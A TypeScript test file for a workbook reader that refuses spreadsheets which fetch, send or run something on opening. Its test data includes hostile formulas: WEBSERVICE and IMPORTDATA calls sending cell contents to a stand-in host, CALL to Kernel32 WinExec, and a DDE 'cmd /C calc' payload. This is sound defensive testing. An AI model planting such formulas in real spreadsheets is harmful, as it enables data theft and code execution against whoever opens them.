import { describe, expect, test } from "vitest";
import { read, refusal } from "./reading.ts";
import { sheetOf, workbook } from "./workbook-fixture.ts";
import type { ZipPart } from "./zip-writer.ts";

const OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";

function row(formula: string): string {
  const escaped = formula.replaceAll("&", "&amp;").replaceAll("<", "&lt;");
  return `<row r="2"><c r="A2"><v>1</v></c><c r="B2"><v>2</v></c><c r="C2" t="str"><f>${escaped}</f><v>x</v></c></row>`;
}

const HEADER =
  '<row r="1"><c r="A1" t="inlineStr"><is><t>reference</t></is></c><c r="B1" t="inlineStr"><is><t>amount</t></is></c><c r="C1" t="inlineStr"><is><t>mine</t></is></c></row>';

function payouts(formula: string): Buffer {
  return workbook({ sheets: [{ name: "Payouts", rows: HEADER + row(formula) }] });
}

const PLAIN = '<row r="2"><c r="A2"><v>1</v></c><c r="B2"><v>2</v></c></row>';

function withPart(part: ZipPart): Buffer {
  return workbook({ sheets: [sheetOf(PLAIN)], parts: [part] });
}

function relations(name: string, ...links: readonly (readonly [kind: string, target: string])[]): ZipPart {
  const all = links.map(
    ([kind, target], index) =>
      `<Relationship Id="r${index}" Type="${OFFICE}/${kind}" Target="${target}" TargetMode="External"/>`,
  );
  return { name, data: `<Relationships>${all.join("")}</Relationships>` };
}

describe("a workbook that fetches, sends or runs something when it is opened is refused, with the place", () => {
  test.each([
    ["WEBSERVICE", '_xlfn.WEBSERVICE("https://x.example/?"&_xlfn.ENCODEURL(A2))'],
    ["WEBSERVICE", 'IF(A2="a|b",1,webservice ("https://x.example"))'],
    ["WEBSERVICE", "'a\"b'!A1&_xlfn.WEBSERVICE(A2)"],
    ["IMAGE", "_xlfn.IMAGE(A2)"],
    ["RTD", 'RTD("Prog.Id",,"topic")'],
    ["CALL", 'CALL("Kernel32","WinExec","JCJ","calc",0)'],
    ["REGISTER.ID", 'REGISTER.ID("Kernel32","WinExec")'],
    ["DDE", "cmd|'/C calc'!A0"],
    ["DDE", 'DDE("soffice","a.ods","A1")'],
    ["IMPORTDATA", 'IFERROR(__xludf.DUMMYFUNCTION("IMPORTDATA(""https://x.example/?""&A2)"),"x")'],
    ["WEBSERVICE", '__xludf.DUMMYFUNCTION("A1&""")&WEBSERVICE("https://x.example")'],
    ["WEBSERVICE", '"open & WEBSERVICE(A2)'],
    ["WEBSERVICE", "[[&WEBSERVICE(A2)"],
  ])("%s in the formula of a cell: %s", async (name, formula) => {
    const problem = await refusal(read(payouts(formula)));
    expect(problem).toMatchObject({ code: "WORKBOOK_IS_ACTIVE", sheet: "Payouts", cell: "C2" });
    expect(problem.message).toContain(name);
    expect(problem.message).toContain("C2");
  });

  test("on another sheet, hidden or not, whatever its part is called", async () => {
    const rates = { name: "Rates", rows: row('_xlfn.WEBSERVICE("https://x.example")') };
    for (const more of [{}, { state: "veryHidden" as const }, { target: "worksheets/theme1.dat" }])
      expect(
        await refusal(read(workbook({ sheets: [sheetOf(PLAIN), { ...rates, ...more }] }))),
      ).toMatchObject({ code: "WORKBOOK_IS_ACTIVE", sheet: "Rates", cell: "C2" });
  });

  test.each([
    ["conditionalFormatting", "<cfRule><formula>LEN(WEBSERVICE(A2))</formula></cfRule>"],
    ["dataValidations", "<dataValidation><formula1>LEN(WEBSERVICE(A2))</formula1></dataValidation>"],
    ["extLst", "<ext><x:f xmlns:x='x'>WEB<!-- -->SERVICE(A2)</x:f></ext>"],
  ])("in a rule below the payouts: %s", async (element, inner) => {
    const after = `<${element}>${inner}</${element}>`;
    expect(await refusal(read(workbook({ sheets: [sheetOf(PLAIN, { after })] })))).toMatchObject({
      code: "WORKBOOK_IS_ACTIVE",
      sheet: "Payouts",
    });
  });

  test.each([
    [
      "a name",
      {
        name: "xl/names.xml",
        data: "<definedNames><definedName>WEBSERVICE(A2)</definedName></definedNames>",
      },
    ],
    [
      "a DDE link",
      {
        name: "xl/externalLinks/externalLink1.xml",
        data: '<externalLink><ddeLink ddeService="cmd"/></externalLink>',
      },
    ],
    [
      "a DDE link in a part of another name",
      { name: "xl/calm.bin", data: '\ufeff <externalLink><ddeLink ddeService="cmd"/></externalLink>' },
    ],
    [
      "an OLE link",
      { name: "xl/externalLinks/externalLink1.xml", data: "<externalLink><oleLink/></externalLink>" },
    ],
    [
      "links that are updated without asking",
      { name: "xl/calm.xml", data: '<workbook><workbookPr updateLinks="always"/></workbook>' },
    ],
    [
      "a data connection refreshed on opening",
      { name: "xl/connections.xml", data: '<connections><connection refreshOnLoad="1"/></connections>' },
    ],
    [
      "a data connection refreshed every few minutes",
      { name: "xl/connections.xml", data: '<connections><connection interval="5"/></connections>' },
    ],
    ["a data query", { name: "xl/queryTables/queryTable1.xml", data: '<queryTable refreshOnLoad="true"/>' }],
    [
      "a pivot table",
      {
        name: "xl/pivotCache/pivotCacheDefinition1.xml",
        data: '<pivotCacheDefinition refreshOnLoad="1"><cacheSource type="external"/></pivotCacheDefinition>',
      },
    ],
    ["an object", { name: "xl/drawing1.xml", data: '<oleObjects><oleObject autoLoad="1"/></oleObjects>' }],
    [
      "a picture by its address",
      relations("xl/drawings/_rels/drawing1.xml.rels", ["image", "file://h/p.png"]),
    ],
    [
      "an object elsewhere",
      relations("xl/worksheets/_rels/sheet1.xml.rels", ["oleObject", "file://h/p.doc"]),
    ],
    [
      "an ActiveX control",
      {
        name: "xl/worksheets/_rels/sheet1.xml.rels",
        data: `<Relationships><Relationship Id="r1" Type="${OFFICE}/control" Target="../activeX/activeX1.xml"/></Relationships>`,
      },
    ],
  ])("%s", async (_, part) => {
    expect(await refusal(read(withPart(part)))).toMatchObject({ code: "WORKBOOK_IS_ACTIVE" });
  });
});

describe("what bookkeepers use is read: it only calculates, or waits for a click or for consent", () => {
  test.each([
    'HYPERLINK("https://mempool.space/address/"&A2,"look")',
    "VLOOKUP(A2,'[1]Suppliers | 2026'!A:B,2,FALSE)",
    '"call(me) | webservice("&A2',
    "'A | B'!A1&Table1[a|b]&Table1['[call('|]]",
    "_xlfn.FILTERXML(A2,B2)&RECALL(A2)&WEBSERVICE",
    'IFERROR(__xludf.DUMMYFUNCTION("GOOGLEFINANCE(""CURRENCY:BTCEUR"")"),1)',
  ])("the formula %s", async (formula) => {
    expect((await read(payouts(formula))).texts).toEqual([["1", "2", "x"]]);
  });

  test.each(["[", "['", "'a", '"', '__xludf.DUMMYFUNCTION("""'])(
    "a formula of %s hundreds of thousands of times takes no more time than another",
    async (piece) => {
      expect((await read(payouts(piece.repeat(300_000 / piece.length)))).texts).toEqual([["1", "2", "x"]]);
    },
  );

  test.each([
    [
      "links, to mail and to a file share",
      relations(
        "xl/worksheets/_rels/sheet1.xml.rels",
        ["hyperlink", "mailto:ann@x.example"],
        ["hyperlink", "file://h/i.pdf"],
      ),
    ],
    [
      "another workbook, found or not",
      relations(
        "xl/externalLinks/_rels/externalLink1.xml.rels",
        ["externalLinkPath", "file:///C:/Suppliers.xlsx"],
        ["xlPathMissing", "Suppliers.xlsx"],
      ),
    ],
    [
      "a data connection that somebody refreshes",
      { name: "xl/connections.xml", data: '<connections><connection refreshOnLoad="0"/></connections>' },
    ],
    [
      "a pivot table of the workbook's own cells",
      {
        name: "xl/pivotCache/pivotCacheDefinition1.xml",
        data: '<pivotCacheDefinition refreshOnLoad="1"><cacheSource type="worksheet"/></pivotCacheDefinition>',
      },
    ],
    [
      "a comment about a formula",
      { name: "xl/comments1.xml", data: "<comments><text><t>WEBSERVICE(A2)</t></text></comments>" },
    ],
    [
      "a button whose label has several lines, as Excel writes it",
      {
        name: "xl/drawings/vmlDrawing1.vml",
        // Some line breaks cross the end of a chunk, at each of their bytes.
        data: `<xml><v:textbox><div>Pay${`${"<br>".repeat(16_384)}x`.repeat(4)}now</div></v:textbox></xml>`,
      },
    ],
    [
      "a picture",
      { name: "xl/media/image1.svg", data: '<!DOCTYPE svg><svg><image href="https://x.example"/>' },
    ],
  ])("%s", async (_, part) => {
    expect((await read(withPart(part))).texts).toEqual([["1", "2"]]);
  });
});
